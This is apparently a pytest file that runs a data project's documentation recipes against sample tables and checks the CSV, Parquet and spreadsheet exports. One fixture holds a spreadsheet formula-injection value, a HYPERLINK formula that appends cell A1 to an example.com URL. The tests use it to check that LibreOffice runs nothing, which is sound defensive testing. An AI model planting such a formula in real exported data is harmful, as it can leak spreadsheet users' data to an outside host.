"""The recipes of the docs, run as printed: on files and on folders of parts, with real R and LibreOffice."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import ROOT
from small_documents import case_row, small_document

from pipeline.archive.archive import keep
from pipeline.tables.compact import compact
from pipeline.tables.read import read_table, table_path
from pipeline.tables.write import write_tables

FENCE = re.compile(r"^```([^\n]+)\n(.*?)^```$", re.M | re.S)
PAGES = (ROOT / "docs" / "recipes.md", ROOT / "docs" / "large-collections.md")
BLOCKS = [(kind, text) for page in PAGES for kind, text in FENCE.findall(page.read_text(encoding="utf-8"))]
FORMULA = '=HYPERLINK("https://example.com/?"&A1,"件名")'


def run(kind: str, text: str, folder: Path, more: str = "") -> str:
    """Run a block as a reader would, in the folder that holds output/, and give what it prints."""
    programs = {"python": [sys.executable, "-c"], "r": ["Rscript", "-e"], "sh": ["bash", "-euo", "pipefail", "-c"]}
    done = subprocess.run(
        [*programs[kind], text + more],
        cwd=folder,
        env={
            "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
            "HOME": str(folder / "home"),
            "LC_ALL": "C.UTF-8",
            "PYTHONPATH": str(ROOT),
        },
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, f"{text}\n{done.stdout}{done.stderr}"
    return done.stdout


@pytest.fixture(scope="module")
def desk(out: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with output/: the sample, and a paper of another office with a text that looks like a formula."""
    folder = tmp_path_factory.mktemp("desk")
    (folder / "home").mkdir()
    shutil.copytree(out / "archive", folder / "output" / "archive")
    data, extraction = small_document("a.pdf", publisher_code="010006", case_nos=(1, 2))
    extraction.rows["cases"] = [
        {**case_row(extraction.document_id, number), "title": title} for number, title in ((1, FORMULA), (2, "-1+2"))
    ]
    keep(folder / "output", data, extraction)
    write_tables(folder / "output")
    return folder


def blocks(kind: str, *words: str) -> list[str]:
    found = [text for named, text in BLOCKS if named == kind and all(word in text for word in words)]
    assert found, (kind, words)
    return found


def test_every_block_is_of_a_kind_that_is_run_or_marked() -> None:
    assert {kind for kind, _ in BLOCKS} == {"python", "r", "sh"}
    taken = ("output/tables", "output/export/besshi.", "read_csv", "read.csv", "--to ", "soffice", "frictionless")
    page = PAGES[0].read_text(encoding="utf-8")
    left = [text for _, text in FENCE.findall(page) if not any(words in text for words in taken)]
    assert left == [], "the tests below choose blocks by these words"
    (not_run,) = (text for _, text in BLOCKS if "not run here" in text)
    assert "library(arrow)" in not_run
    assert "この例はここでは実行していません" in page
    assert "This example is not run here" in page


@pytest.mark.parametrize("as_folders", [False, True])
def test_python_recipes_read_files_and_folders(desk: Path, as_folders: bool) -> None:
    compact(desk / "output", most_rows=20 if as_folders else None)
    assert table_path(desk / "output", "controls").is_dir() == as_folders
    rows = pq.read_table(table_path(desk / "output", "controls")).num_rows
    one_line = [text for text in blocks("python", "controls = ") if text.count("\n") == 3]
    assert [text.split()[1] for text in one_line] == ["pandas", "polars", "duckdb", "pandas"]
    for text in one_line:
        assert run("python", text, desk, "print(len(controls))") == f"{rows}\n"
    others = [text for text in blocks("python") if text not in one_line and "output/tables" in text]
    said = [run("python", text, desk) for text in others]
    assert said[0] == "30 cases\n"
    assert all(said)
    if as_folders:
        compact(desk / "output")


def test_the_databases_answer(desk: Path) -> None:
    run("sh", *blocks("sh", "duckdb"), desk)
    asked = blocks("python", "output/export/besshi.")
    assert len(asked) == 2
    said = [run("python", text, desk) for text in asked]
    assert "案件ID" in said[0]
    assert said[1] == "(30,)\n"


def test_base_r_reads_the_csv_files(desk: Path) -> None:
    for text in blocks("sh", "--to csv"):
        run("sh", text, desk)
    plain, with_words = blocks("r", "read.csv")
    kept = read_table(desk / "output", "controls")
    said = run("r", plain, desk, 'cat(nrow(controls), unique(controls$publisher_code), controls$text[1], sep = "\\n")')
    assert said.split("\n")[:3] == [str(len(kept)), "131041", kept["text"][0].as_py()]
    said = run(
        "r", with_words, desk, "writeLines(cases$title); cat(class(cases$meeting_date), cases$publisher_code[1])"
    )
    cases = read_table(desk / "output", "cases").to_pydict()
    assert [line for line in said.split("\n") if line in cases["title"]] == cases["title"]
    assert said.endswith("Date 010006")
    run("python", *blocks("python", "read_csv"), desk, f"assert cases['title'].tolist() == {cases['title']!r}")
    assert run("sh", *blocks("sh", "frictionless"), desk).count("VALID") >= 17


def test_libreoffice_opens_the_workbook_and_runs_nothing(desk: Path) -> None:
    run("sh", *blocks("sh", "--to xlsx"), desk)
    run("sh", *blocks("sh", "soffice"), desk)
    for name in ("cases", "controls", "target_counts"):
        with (desk / "sheets" / f"besshi-{name}.csv").open(encoding="utf-8", newline="") as file:
            _, *shown = list(csv.reader(file))
        kept = read_table(desk / "output", name)
        assert len(shown) == len(kept)
        for number, column in enumerate(kept.schema.names):
            kind = kept.schema.field(column).type
            cells = [row[number] for row in shown]
            values = kept[column].to_pylist()
            if pa.types.is_string(kind):
                assert cells == [value or "" for value in values], f"{name}.{column}"
            elif pa.types.is_date32(kind):
                assert cells == ["" if value is None else value.isoformat() for value in values], f"{name}.{column}"
            elif pa.types.is_int64(kind):
                assert cells == ["" if value is None else str(value) for value in values], f"{name}.{column}"
    with (desk / "sheets" / "besshi-cases.csv").open(encoding="utf-8", newline="") as file:
        assert [row[3] for row in csv.reader(file)][1:3] == [FORMULA, "-1+2"]


def test_the_recipes_for_large_collections_run(desk: Path) -> None:
    compact(desk / "output", most_rows=20)
    page = PAGES[1].read_text(encoding="utf-8")
    for kind, text in FENCE.findall(page):
        run(kind, text, desk)
    compact(desk / "output")
    assert os.listdir(desk / "output" / "tables")
